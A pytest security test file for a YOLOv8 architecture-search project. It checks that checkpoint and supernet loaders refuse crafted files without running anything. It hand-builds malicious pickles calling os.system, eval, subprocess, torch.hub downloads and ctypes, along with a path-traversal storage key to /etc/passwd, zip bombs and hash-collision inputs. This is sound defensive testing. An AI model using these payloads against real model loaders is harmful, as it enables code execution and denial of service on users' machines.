"""Attacks by `.pt` files and supernets: each is refused with one line, nothing of it runs, little memory is taken."""

from __future__ import annotations

import ast
import copy
import io
import json
import os
import pickle
import resource
import shutil
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import pytest
import torch
from safetensors.torch import load_file, save_file
from torch import nn
from ultralytics.nn.tasks import DetectionModel, yaml_model_load

from yolov8_nas.checkpoint import archive, network, stock
from yolov8_nas.checkpoint.archive import Refused
from yolov8_nas.errors import InputError
from yolov8_nas.export import packaging
from yolov8_nas.space import SearchSpace
from yolov8_nas.supernet.supernet import DETAILS, WEIGHTS, Supernet

ROOM = 200 * 2**20
"""Bytes of memory that a refusal may take."""

RUN = "touch executed"


# A pickle by hand -----------------------------------------------------------------------------------------------------


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + b"(" + b"".join(arguments) + b"tR"


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def storage(elements: int, key: str = "0", kind: str = "FloatStorage") -> bytes:
    return b"(" + text("storage") + name("torch", kind) + text(key) + text("cpu") + number(elements) + b"tQ"


def tensor(size: bytes, stride: bytes, *, elements: int = 4, offset: int = 0, hooks: bytes = b"N") -> bytes:
    return call("torch._utils", "_rebuild_tensor_v2", storage(elements), number(offset), size, stride, b"\x89", hooks)


def sides(*values: int) -> bytes:
    return b"(" + b"".join(b"\x8a\x08" + struct.pack("<q", value) for value in values) + b"t"


def pt(
    content: bytes,
    *,
    data: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_STORED,
    whole: bool = False,
    **more: bytes,
) -> Callable[[Path], None]:
    """A `.pt` file whose `model` is what a program leaves, or whose pickle is the program."""
    program = content if whole else b"\x80\x02}" + text("model") + content + b"s."

    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w", compression) as file:
            file.writestr("archive/data.pkl", program)
            file.writestr("archive/byteorder", more.get("byteorder", b"little"))
            for key, raw in ({"0": bytes(16)} if data is None else data).items():
                file.writestr(f"archive/data/{key}", raw)

    return make


def pickled(value: object, protocol: int = 2) -> bytes:
    """What a class of Python's own makes of itself: the program without its frame and end."""
    return pickle.dumps(value, protocol)[2:-1]


class Reduces:
    """Stands in a pickle as a call."""

    def __init__(self, *reduced: Any) -> None:
        self.reduced = reduced

    def __reduce__(self) -> Any:
        return self.reduced


def saved(value: object, **settings: Any) -> Callable[[Path], None]:
    """Written by PyTorch itself."""
    return lambda path: torch.save({"model": value}, path, **settings)


def laughs(depth: int, final: bytes) -> bytes:
    """A tuple of two of a tuple of two of ... : small, and endless to walk through."""
    program = b")q\x00"
    for _ in range(depth):
        program += b"h\x00h\x00\x86q\x00"
    return b"}" + program + final


# Networks that are nearly sound ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sound() -> DetectionModel:
    rows = {**yaml_model_load("yolov8n.yaml"), "scales": {"n": [0.33, 0.125, 128]}}
    return DetectionModel(rows, nc=2, verbose=False)


def altered(change: Callable[[Any], object], **more: Any) -> Callable[[Path, DetectionModel], None]:
    def make(path: Path, sound: DetectionModel) -> None:
        found = copy.deepcopy(sound)
        with torch.no_grad():
            change(found)
        torch.save({"model": found, **more}, path)

    return make


def put(*path: Any, value: Any) -> Callable[[Any], object]:
    """Set an attribute by the names and numbers that lead to it, past what modules allow."""

    def change(found: Any) -> None:
        for step in path[:-1]:
            found = found[step] if isinstance(step, int) else getattr(found, step)
        found.__dict__[path[-1]] = value

    return change


def _yaml(key: str, value: Any) -> Callable[[Any], object]:
    return lambda found: found.yaml.__setitem__(key, value)


def _row(found: Any) -> None:
    found.yaml["backbone"][0] = [-1, 1, "Conv", ["__import__('os').system('touch executed')", 3, 2]]


def _loop(found: Any) -> None:
    found.model[2]._modules["m"] = found.model


def _deep(found: Any) -> None:
    inner = nn.Sequential()
    for _ in range(40):
        inner = nn.Sequential(inner)
    found.model[2]._modules["m"] = inner


def _many(found: Any) -> None:
    found.model[2]._modules["m"] = nn.ModuleList(nn.Identity() for _ in range(9_999))
    for module in found.model[4:6]:
        module._modules["m"] = nn.ModuleList(nn.Identity() for _ in range(9_000))


def _wide(found: Any) -> None:
    for row in (3, 5, 7):
        found.model[row] = nn.Upsample(scale_factor=2.0)
        found.model[row].f, found.model[row].i = -1, row


def _legacy_tar(path: Path) -> None:
    """As PyTorch wrote before 0.1.10."""
    with tarfile.open(path, "w") as tar:
        for member in ("sys_info", "pickle", "storages", "tensors"):
            raw = pickle.dumps(Reduces(os.system, (RUN,)))
            info = tarfile.TarInfo(member)
            info.size = len(raw)
            tar.addfile(info, io.BytesIO(raw))


def _script(path: Path) -> None:
    class Module(nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.script(Module()).save(path)  # type: ignore[no-untyped-call]


def _overlapping(path: Path) -> None:
    """Many names for the same bytes."""
    pt(b"N", data={"0": bytes(2**20)})(path)
    raw = path.read_bytes()
    end = raw.rindex(b"PK\5\6")
    start = struct.unpack_from("<I", raw, end + 16)[0]
    directory = raw[start:end]
    last = directory[directory.rindex(b"PK\1\2") :]
    entries = [last.replace(b"archive/data/0", f"archive/data/{key}".encode()) for key in range(1, 10)]
    directory += b"".join(entries * 200)
    count = 3 + 9 * 200
    tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(directory), start, 0)
    path.write_bytes(raw[:start] + directory + tail)


def _entries(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as file:
        for key in range(archive.MOST_ENTRIES + 10):
            file.writestr(zipfile.ZipInfo(f"a/{key}"), b"")


def _twice(path: Path) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w") as file:
            file.writestr("a/data.pkl", b"\x80\x02}.")
            file.writestr("a/data.pkl", b"\x80\x02" + call("os", "system", text(RUN)) + b".")


def _bad_sum(path: Path) -> None:
    pt(b"N", data={"0": b"0123456789abcdef"})(path)
    path.write_bytes(path.read_bytes().replace(b"0123456789abcdef", b"0123456789abcdeX"))


NULL = name("torch.nn.modules.conv", "Conv2d") + b")\x81"

ATTACKS: dict[str, Callable[..., None]] = {
    # calls
    "os.system": pt(call("os", "system", text(RUN))),
    "posix.system, as pickle writes it": saved(Reduces(os.system, (RUN,))),
    "nt.system": pt(call("nt", "system", text(RUN))),
    "subprocess.Popen": pt(call("subprocess", "Popen", text(RUN))),
    "builtins.eval": pt(call("builtins", "eval", text(f"__import__('os').system('{RUN}')"))),
    "builtins.exec": pt(call("__builtin__", "exec", text("import os"))),
    "builtins.__import__": pt(call("builtins", "__import__", text("antigravity"))),
    "builtins.getattr of a module": pt(call("builtins", "getattr", call("importlib", "import_module", text("os")))),
    "builtins.getattr of a network": pt(call("builtins", "getattr", NULL, text("__class__"))),
    "builtins.getattr, folded and on": pt(
        call("builtins", "getattr", call("builtins", "getattr", NULL, text("forward_fuse")), text("__globals__"))
    ),
    "importlib.import_module": pt(call("importlib", "import_module", text("antigravity"))),
    "runpy": pt(call("runpy", "run_path", text("evil.py"))),
    "webbrowser.open": pt(call("webbrowser", "open", text("https://example.org"))),
    "torch.hub.load": pt(call("torch.hub", "load", text("evil/evil"), text("evil"))),
    "torch.hub.load_state_dict_from_url": pt(
        call("torch.hub", "load_state_dict_from_url", text("https://example.org/evil.pt"))
    ),
    "torch.load": pt(call("torch", "load", text("evil.pt"))),
    "torch.jit.load": pt(call("torch.jit._serialization", "load", text("evil.pt"))),
    "torch.ops.load_library": pt(call("torch._ops", "ops.load_library", text("evil.so"))),
    "torch.utils.cpp_extension": pt(call("torch.utils.cpp_extension", "load_inline", text("evil"))),
    "ultralytics downloads": pt(call("ultralytics.utils.downloads", "safe_download", text("https://example.org/a"))),
    "ultralytics gives an asset": pt(call("ultralytics.utils.downloads", "attempt_download_asset", text("yolov8n.pt"))),
    "ultralytics installs packages": pt(call("ultralytics.utils.checks", "check_requirements", text("evil"))),
    "ultralytics' YOLO of an address": pt(call("ultralytics.models.yolo.model", "YOLO", text("https://example.org/a"))),
    "a network is called with a name": pt(call("ultralytics.nn.tasks", "DetectionModel", text("yolov8x.yaml"))),
    "a huge convolution is called": pt(
        call("torch.nn.modules.conv", "Conv2d", number(20_000), number(20_000), number(3))
    ),
    "a huge convolution is made": pt(
        name("torch.nn.modules.conv", "Conv2d") + b"(" + number(20_000) * 2 + number(3) + b"t\x81"
    ),
    "numpy.load": pt(call("numpy", "load", text("evil.npy"), b"N", b"\x88")),
    "numpy's object arrays": pt(call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), sides(0))),
    "numpy.dtype of objects": pt(call("numpy", "dtype", text("O8"))),
    "operator.attrgetter": pt(call("operator", "attrgetter", text("system"))),
    "functools.partial": pt(call("functools", "partial", name("os", "system"), text(RUN))),
    "types.FunctionType": pt(call("types", "FunctionType")),
    "marshal.loads": pt(call("marshal", "loads", b"C\x01a")),
    "code and its globals": pt(call("types", "CodeType")),
    "multiprocessing": pt(call("multiprocessing.util", "_run_finalizers")),
    "ctypes": pt(call("ctypes", "CDLL", text("evil.so"))),
    # other ways to a call
    "copyreg._reconstructor": pt(call("copyreg", "_reconstructor", name("builtins", "object") * 2)),
    "copyreg.__newobj_ex__": pt(call("copyreg", "__newobj_ex__")),
    "copyreg's extensions": pt(b"\x82\x01"),
    "a class that has __setstate__": pt(name("collections", "deque") + b")\x81}" + text("a") + b"Nsb"),
    "state for a function": pt(name("torch._utils", "_rebuild_tensor_v2") + b"}" + text("__code__") + b"Nsb"),
    "state in slots": pt(NULL + b"N}" + text("forward") + b"Ns\x86b"),
    "state twice": pt(NULL + b"}" + text("a") + b"Nsb}" + text("b") + b"Nsb"),
    "NEWOBJ_EX": pt(name("torch.nn.modules.conv", "Conv2d") + b")}\x92"),
    "OBJ": pt(b"(" + name("os", "system") + text(RUN) + b"o"),
    "INST": pt(b"(" + text(RUN) + b"ios\nsystem\n"),
    "a persistent name": pt(b"Pevil\n"),
    "names with dots, STACK_GLOBAL": pt(text("os") + text("path.os.system") + b"\x93" + text(RUN) + b"\x85R"),
    "dots through an allowed name": pt(name("collections", "OrderedDict.__init__.__globals__") + b")R"),
    "an allowed module, another name": pt(call("torch._utils", "_import_dotted_name", text("os.system"))),
    "a name with a line break": pt(text("os\nsystem") + text("a\x1b[2J") + b"\x93"),
    "a function in place of a value": pt(name("torch._utils", "_rebuild_tensor_v2") + b")R"),
    "a call of a value": pt(b"K\x01)R"),
    # tensors
    "a giant stride": pt(tensor(sides(2, 2), sides(1 << 39, 1))),
    "a shape of zero strides": pt(tensor(sides(1 << 20, 1 << 20), sides(0, 0))),
    "a negative stride": pt(tensor(sides(2, 2), sides(-1, 1))),
    "an offset beyond the end": pt(tensor(sides(2), sides(1), offset=1 << 20)),
    "a negative offset": pt(tensor(sides(2), sides(1), offset=-4)),
    "a shape that overflows": pt(tensor(sides(1 << 32, 1 << 32, 1 << 32), sides(1, 1, 1))),
    "more dimensions than any": pt(tensor(sides(*[1] * 100), sides(*[1] * 100))),
    "a storage that says more than it has": pt(tensor(sides(400_000_000), sides(1), elements=400_000_000)),
    "a storage that says less": pt(tensor(sides(1), sides(1), elements=1)),
    "a storage of a negative size": pt(storage(-1)),
    "a storage that is missing": pt(storage(4, key="7")),
    "a storage outside the folder": pt(storage(4, key="../../../etc/passwd")),
    "a storage of two types": pt(b"(" + storage(4) + storage(4, kind="IntStorage") + b"t"),
    "a storage of an unknown type": pt(storage(4, kind="QInt8Storage")),
    "a view that moves": pt(b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + b"NK\x04NttQ"),
    "one storage a thousand times": pt(
        b"(" + tensor(sides(1 << 18), sides(1), elements=1 << 18) * 1000 + b"t", data={"0": bytes(1 << 20)}
    ),
    "a tensor with hooks": pt(tensor(sides(4), sides(1), hooks=b"}" + b"K\x00" + b"K\x01s")),
    "an untyped storage": pt(call("torch.storage", "_load_from_bytes", b"C\x01a")),
    "a tensor of a class": pt(call("torch._tensor", "_rebuild_from_type_v2", name("os", "system"))),
    "a device tensor from NumPy": pt(call("torch._utils", "_rebuild_device_tensor_from_numpy")),
    "another byte order": pt(b"N", byteorder=b"big"),
    # size and depth
    "a million containers": pt(b"]" * 1_200_000 + b"0" * 10),
    "a memo of four billion": pt(b"Nr\xff\xff\xff\xff" * 10 + b"j\x01\x00\x00\x00"),
    "text longer than the file": pt(b"X\xff\xff\xff\xff"),
    "text of 2^63 bytes": pt(b"\x8d" + b"\xff" * 7 + b"\x7f"),
    "bytes of 2^63 bytes": pt(b"\x8e" + b"\xff" * 7 + b"\x7f"),
    "an integer of a million digits": pt(b"\x8b" + struct.pack("<i", 500_000) + b"\xff" * 500_000),
    "an integer of 255 bytes": pt(b"\x8a\xff" + b"\xff" * 255),
    "a byte array": pt(b"\x96" + struct.pack("<Q", 1 << 62)),
    "text decoded again and again": pt(
        text("x" * 10**6) + b"q\x010" + call("_codecs", "encode", b"h\x01", text("latin1")) * 2000
    ),
    "tuples as a key": pt(laughs(60, b"h\x00Ns")),
    "tuples of tuples as a network": pt(laughs(60, b"0h\x00")),
    "a set again and again": pt(
        b"]q\x01(" + b"".join(number(i) for i in range(10_000)) + b"e0" + call("builtins", "set", b"h\x01") * 200
    ),
    "integers that all have the same hash": pt(
        b"}(" + b"".join(b"\x8a\x0a" + (i * (2**61 - 1)).to_bytes(10, "little") + b"N" for i in range(300_000)) + b"u"
    ),
    "a set of integers that all have the same hash": pt(
        b"\x8f(" + b"".join(b"\x8a\x0a" + (i * (2**61 - 1)).to_bytes(10, "little") for i in range(300_000)) + b"\x90"
    ),
    "a list in itself": pt(b"]q\x01h\x01a"),
    "nesting": pt(b"(" * 100_000 + b"t" * 100_000),
    # the pickle itself
    "protocol 0": pt(b"cos\nsystem\n(S'touch executed'\ntR.", whole=True),
    "protocol 1": pt(b"}q\x00.", whole=True),
    "protocol 9": pt(b"\x80\x09}.", whole=True),
    "a second pickle behind the first": pt(b"\x80\x02}.\x80\x02" + call("os", "system", text(RUN)) + b".", whole=True),
    "an unknown instruction": pt(b"\xfe"),
    "no end": pt(b"\x80\x02}", whole=True),
    "nothing on the stack": pt(b"\x80\x02.", whole=True),
    "marks only": pt(b"\x80\x02(((t.", whole=True),
    "items for a number": pt(b"K\x01(K\x01K\x02u"),
    "text that is not UTF-8": pt(b"X\x02\x00\x00\x00\xff\xfe"),
    # the archive
    "a bomb in the archive": pt(b"N", data={"0": bytes(500 * 2**20)}, compression=zipfile.ZIP_DEFLATED),
    "a bomb in LZMA": pt(b"N", data={"0": bytes(50 * 2**20)}, compression=zipfile.ZIP_LZMA),
    "a bomb as pickle": pt(b"N" * 200_000_000, compression=zipfile.ZIP_DEFLATED),
    "overlapping entries": _overlapping,
    "fifty thousand entries": _entries,
    "two pickles of one name": _twice,
    "a wrong checksum": _bad_sum,
    "no pickle": lambda path: zipfile.ZipFile(path, "w").close(),
    "the legacy tar": _legacy_tar,
    "the legacy pickle": saved(Reduces(os.system, (RUN,)), _use_new_zipfile_serialization=False),
    "TorchScript": _script,
    "a bare pickle": lambda path: path.write_bytes(pickle.dumps(Reduces(os.system, (RUN,)), 2)),
    "a pickle of protocol 5": lambda path: path.write_bytes(pickle.dumps(Reduces(os.system, (RUN,)), 5)),
    "protocol 5 in an archive": saved(Reduces(os.system, (RUN,)), pickle_protocol=5),
    "a pipe": os.mkfifo,
    "a device": lambda path: path.symlink_to("/dev/zero"),
}  # fmt: skip

NETWORKS: dict[str, Callable[[Path, DetectionModel], None]] = {
    "a hook": altered(lambda m: m.model[0]._forward_hooks.__setitem__(0, 1)),
    "a hook that is a function": altered(lambda m: m.model[0].register_forward_hook(print)),
    "a hook before the state": altered(lambda m: m._load_state_dict_pre_hooks.__setitem__(0, 1)),
    "forward is a module": altered(put("model", 0, "forward", value=nn.SiLU())),
    "forward is a builtin": altered(put("model", 0, "forward", value=eval)),
    "forward is text": altered(put("forward", value="os.system")),
    "an activation that would be evaluated": altered(_yaml("activation", "__import__('os').system('touch executed')")),
    "a row whose arguments would be evaluated": altered(_row),
    "a row of TorchVision": altered(
        lambda m: m.yaml["head"].__setitem__(0, [-1, 1, "TorchVision", [1024, "resnet50", "DEFAULT"]])
    ),
    "a row of torch.nn": altered(lambda m: m.yaml["head"].__setitem__(0, [-1, 1, "nn.Module.__init__", []])),
    "a row a billion times": altered(lambda m: m.yaml["head"].__setitem__(0, [-1, 10**9, "Conv", [64, 3, 2]])),
    "a row of giant width": altered(lambda m: m.yaml["head"].__setitem__(0, [-1, 1, "Conv", [10**9, 3, 2]])),
    "a billion classes": altered(_yaml("nc", 10**9)),
    "a scale of a thousand": altered(_yaml("width_multiple", 1000.0)),
    "a branch inside itself": altered(_loop),
    "forty modules deep": altered(_deep),
    "twenty-eight thousand modules": altered(_many),
    "images larger five times": altered(_wide),
    "an upsampling by a million": altered(put("model", 10, "scale_factor", value=1e6)),
    "an upsampling to a size": altered(put("model", 10, "size", value=(10**6, 10**6))),
    "a pooling of a million": altered(put("model", 9, "m", "kernel_size", value=10**6)),
    "poolings without end": altered(put("model", 9, "n", value=10**9)),
    "padding of a million": altered(put("model", 0, "conv", "padding", value=(10**6, 10**6))),
    "a stride of nothing": altered(put("model", 0, "conv", "stride", value=(0, 0))),
    "a padding mode": altered(put("model", 0, "conv", "padding_mode", value="circular")),
    "an epsilon that is text": altered(put("model", 0, "bn", "eps", value="1")),
    "an epsilon that is no number": altered(put("model", 0, "bn", "eps", value=float("nan"))),
    "groups that don't divide": altered(put("model", 0, "conv", "groups", value=3)),
    "classes beyond the outputs": altered(put("model", 22, "nc", value=10_000)),
    "outputs of another number": altered(put("model", 22, "no", value=7)),
    "levels beyond the head": altered(put("model", 22, "nl", value=8)),
    "a row that reads far away": altered(put("model", 12, "f", value=[-1, 10**6])),
    "a row that reads text": altered(put("model", 12, "f", value="x")),
    "rows to keep without end": altered(put("save", value=list(range(100_000)))),
    "weights that are not numbers": altered(lambda m: m.model[0].conv.weight.fill_(float("nan"))),
    "a weight under another name": altered(
        lambda m: m.model[0].conv.register_buffer("evil", torch.zeros(3), persistent=False)
    ),
    "a part of a method's name": altered(lambda m: m.model[0]._modules.__setitem__("forward_fuse", nn.SiLU())),
    "no batch normalization's mean": altered(lambda m: m.model[0].bn._buffers.pop("running_mean")),
    "no activation": altered(lambda m: m.model[0]._modules.pop("act")),
    "no head": altered(lambda m: m.model._modules.pop("22")),
    "a partial module": altered(lambda m: m.model[2].__dict__.pop("_modules")),
    "a partial network": altered(lambda m: m.__dict__.pop("yaml")),
    "names that are none": altered(put("names", value={0: "a", 7: "b"})),
    "images of a billion pixels": altered(lambda m: None, train_args={"imgsz": 10**9}),
    "a foreign module inside": altered(lambda m: m.model[0]._modules.__setitem__("act", nn.Linear(2, 2))),
    "quantization that is text": altered(lambda m: None, modelopt="evil"),
    "quantization of another mode": altered(
        lambda m: None,
        modelopt={"ranges": {}, "modelopt": {"modelopt_state_dict": [("svdquant", {})], "modelopt_version": "0"}},
    ),
    "a quantizer that runs something": altered(
        lambda m: None,
        modelopt={
            "ranges": {},
            "modelopt": {
                "modelopt_state_dict": [
                    ("quantize", {"config": {}, "metadata": {"quantizer_state": {"a": {"_num_bits": 10**9}}}})
                ]
            },
        },
    ),
}  # fmt: skip


def test_security_md_tells_how_many_attacks_there_are() -> None:
    rows = len(ATTACKS) + len(NETWORKS) + len(SUPERNETS)
    lines = (Path(__file__).parents[1] / "SECURITY.md").read_text().splitlines()
    (line,) = (line for line in lines if f"`tests/{Path(__file__).name}`" in line)
    assert line.endswith(f"| {rows} | {rows} |"), rows


def _held(path: Path) -> None:
    """Refused by every reader, with one line and little memory; nothing has run."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    folder = sorted(path.parent.iterdir())
    with pytest.raises(InputError) as caught:
        network.load(path)
    _require_line(str(caught.value))
    with pytest.raises(InputError) as caught:
        stock.read(path)
    _require_line(str(caught.value))
    with pytest.raises(Refused) as refused:
        archive.read_plain(path)
    _require_line(str(refused.value))
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024 < ROOM
    assert sorted(path.parent.iterdir()) == folder, "nothing is written, moved or removed"


def _require_line(message: str) -> None:
    assert message.isprintable() and 10 < len(message) < 700, message


@pytest.mark.parametrize("row", ATTACKS)
def test_an_attack_by_a_file_is_held(row: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "given.pt"
    ATTACKS[row](path)
    _held(path)
    assert not (tmp_path / "executed").exists()


@pytest.mark.parametrize("row", NETWORKS)
def test_an_attack_by_a_network_is_held(
    row: str, sound: DetectionModel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "given.pt"
    NETWORKS[row](path, sound)
    _held(path)
    assert not (tmp_path / "executed").exists()


# Supernets: safetensors beside a description -------------------------------------------------------------------------


def _wider(described: dict[str, Any]) -> None:
    for block in described["space"]["blocks"].values():
        block.update(depth=[*block["depth"], 16], width=[*block["width"], 2048], operator=["conv3", "conv5"])


def _header(text: bytes, more: bytes = b"") -> Callable[[Path], None]:
    """A file of weights that begins with a header and has `more` behind it."""
    return lambda folder: write_weights(folder, struct.pack("<Q", len(text)) + text + more)


def write_weights(folder: Path, content: bytes) -> None:
    (folder / WEIGHTS).write_bytes(content)


def _described(change: Callable[[dict[str, Any]], object]) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        described = json.loads((folder / DETAILS).read_text())
        change(described)
        (folder / DETAILS).write_text(json.dumps(described))

    return make


def _weights(change: Callable[[dict[str, torch.Tensor]], object]) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        tensors = load_file(folder / WEIGHTS)
        change(tensors)
        save_file(tensors, folder / WEIGHTS)

    return make


def _instead(make: Callable[[Path], object]) -> Callable[[Path], None]:
    """Something else in the place of the file of weights."""

    def change(folder: Path) -> None:
        (folder / WEIGHTS).unlink()
        make(folder / WEIGHTS)

    return change


_FAR: Final = b'{"stem.conv.weight":{"dtype":"F32","shape":[1000000,1000000],"data_offsets":[0,4000000000000]}}'

SUPERNETS: Final[dict[str, Callable[[Path], object]]] = {
    "a space of a hundred gigabytes": _described(_wider),
    "a billion classes": _described(lambda d: d.update(num_classes=10**9)),
    "a billion classes without names": _described(lambda d: d.update(num_classes=10**9, names=None)),
    "classes of another number than names": _described(lambda d: d.update(num_classes=1)),
    "names that are one text": _described(lambda d: d.update(names="ab")),
    "names that are lists": _described(lambda d: d.update(names=[["a"], ["b"]])),
    "no space": _described(lambda d: d.update(space=None)),
    "a space that is a list": _described(lambda d: d.update(space=[])),
    "a description that is a list": lambda folder: (folder / DETAILS).write_text("[]"),
    "a description nested without end": lambda folder: (folder / DETAILS).write_text("[" * 100_000),
    "a shape that lies": _weights(lambda t: t.update({"stem.bn.weight": torch.ones(3)})),
    "a tensor too many": _weights(lambda t: t.update({"__class__": torch.ones(1)})),
    "a tensor too few": _weights(lambda t: t.pop("stem.bn.weight")),
    "a header of 2^63 bytes": lambda folder: write_weights(folder, struct.pack("<Q", 2**63) + b"{}"),
    "a header longer than the file": lambda folder: write_weights(folder, struct.pack("<Q", 10**6) + b"{}"),
    "a header that is no JSON": _header(b"\xff" * 64),
    "a header nested without end": _header(b'{"__metadata__":' + b"[" * 100_000),
    "tensors beyond the end": _header(_FAR),
    "tensors over each other": _header(
        b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}',
        bytes(16),
    ),
    "sides that multiply to nothing": _header(
        b'{"a":{"dtype":"F32","shape":[4294967296,4294967296,4294967296],"data_offsets":[0,0]}}'
    ),
    "no bytes": lambda folder: write_weights(folder, b""),
    "a pickle": lambda folder: torch.save({"stem.bn.weight": torch.ones(8)}, folder / WEIGHTS),
    "a folder": _instead(lambda file: file.mkdir()),
    "a link that leads nowhere": _instead(lambda file: file.symlink_to("nowhere")),
    "a link in a circle": _instead(lambda file: file.symlink_to(file.name)),
    "a pipe that nobody writes to": _instead(os.mkfifo),
    "a description that is a pipe": lambda folder: ((folder / DETAILS).unlink(), os.mkfifo(folder / DETAILS)),
}


@pytest.fixture(scope="module")
def supernet(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("supernet")
    Supernet(SearchSpace.load("tiny"), 2, ["a", "b"]).save(folder, {})
    return folder


@pytest.mark.parametrize("row", SUPERNETS)
def test_an_attack_by_a_supernet_is_held(row: str, supernet: Path, tmp_path: Path) -> None:
    folder = shutil.copytree(supernet, tmp_path / "given")
    SUPERNETS[row](folder)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(InputError) as caught:
        Supernet.load(folder)
    _require_line(str(caught.value))
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024 < ROOM


def test_the_supernet_that_is_altered_is_sound(supernet: Path) -> None:
    assert Supernet.load(supernet).names == ("a", "b")


def test_the_network_that_is_altered_is_sound(sound: DetectionModel, tmp_path: Path) -> None:
    altered(lambda m: None)(tmp_path / "given.pt", sound)
    found = network.load(tmp_path / "given.pt").network
    image = torch.rand(1, 3, 64, 64)
    with torch.no_grad():
        assert torch.equal(found(image)[0], copy.deepcopy(sound).eval()(image)[0])


def test_the_state_of_a_training_comes_back(tmp_path: Path) -> None:
    weight = torch.arange(6.0).view(2, 3)
    state = {
        "epoch": 3,
        "best": {"state": {"a": weight, "b": weight}},
        "curves": [{"lr": 0.5}],
        "random": (3, (1, 2), None),
    }
    torch.save(state, tmp_path / "state.pt")
    found = archive.read_plain(tmp_path / "state.pt")
    assert (
        torch.equal(found["best"]["state"]["a"], weight) and found["best"]["state"]["a"] is found["best"]["state"]["b"]
    )
    assert {**found, "best": None} == {**state, "best": None}


@pytest.mark.parametrize("content", [b"torn", None])
def test_an_export_neither_deletes_nor_fetches(
    content: bytes | None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Ultralytics would delete a damaged file of such a name and download another."""
    monkeypatch.chdir(tmp_path)
    file = Path("yolov8n.pt")
    if content is not None:
        file.write_bytes(content)
    with pytest.raises(InputError, match=r"yolov8n\.pt: no"):
        packaging.export(file, tmp_path / "model.onnx")
    assert (file.read_bytes() if file.exists() else None) == content
    assert [path.name for path in tmp_path.iterdir()] == ([file.name] if content else [])


READERS = ("torch_load", "torch_safe_load", "load_checkpoint", "attempt_load_one_weight", "YOLO", "restore_qat")


def test_nothing_else_reads_checkpoints() -> None:
    """Files of pickles reach neither PyTorch's reader nor Ultralytics' by another way."""
    root = Path(__file__).parents[1]
    found = set()
    for folder in ("yolov8_nas", "components", "pipelines", "benchmarks", "examples"):
        for path in (root / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Call):
                    called = ast.unparse(node.func)
                    owner, _, last = called.rpartition(".")
                    if last in READERS or owner == "pickle" or called in ("torch.load", "torch.jit.load"):
                        found.add((path.relative_to(root).as_posix(), called))
    written_just_before = {("yolov8_nas/nas.py", "YOLO"), ("benchmarks/stock_arm.py", "YOLO")}
    between_own_processes = {
        (f"yolov8_nas/runner/{module}.py", f"pickle.{call}")
        for module in ("process", "guarded")
        for call in ("loads", "dumps")
    }
    assert found == written_just_before | between_own_processes
